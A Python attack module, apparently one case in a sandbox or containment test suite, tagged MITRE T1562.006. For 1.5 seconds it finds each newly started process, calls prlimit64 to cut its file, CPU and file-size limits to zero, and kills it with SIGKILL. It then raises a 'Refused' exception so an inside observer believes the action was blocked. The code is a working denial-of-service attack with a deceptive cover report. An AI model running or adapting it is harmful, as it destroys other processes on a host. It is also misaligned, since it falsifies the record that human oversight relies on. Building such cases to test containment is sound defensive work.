"""Make whoever looks from inside see a refusal that there is not.

gain: a proof of containment that is false
attack: T1562.006
stopped by: peer rights, strict reading of outcomes
unconfined: none: it is the core's own look that is attacked, and judged by what it says
host does: look from inside
"""

import ctypes
import os
import signal
import struct
import time

from attacker import LIBC, NUMBER, Refused

NONE = ctypes.create_string_buffer(struct.pack("2Q", 0, 0))


def attempt(world):
    # Every process that comes after this one: no files, no time, no life.
    end = time.monotonic() + 1.5
    mine = os.getpid()
    known = {int(name) for name in os.listdir("/proc") if name.isdigit()}
    done = {"limited": 0, "signalled": 0}
    while time.monotonic() < end:
        high = int(open("/proc/loadavg").read().split()[-1])
        for pid in range(max(mine, high - 12), high + 4):
            if pid in known:
                continue
            for limit in (7, 0, 1):
                done["limited"] += LIBC.syscall(NUMBER["prlimit64"], pid, limit, NONE, None) == 0
            try:
                os.kill(pid, signal.SIGKILL)
                done["signalled"] += 1
            except OSError:
                pass
    raise Refused(
        f"{done['limited']} limits lowered, {done['signalled']} signals sent; what was seen is judged outside"
    )
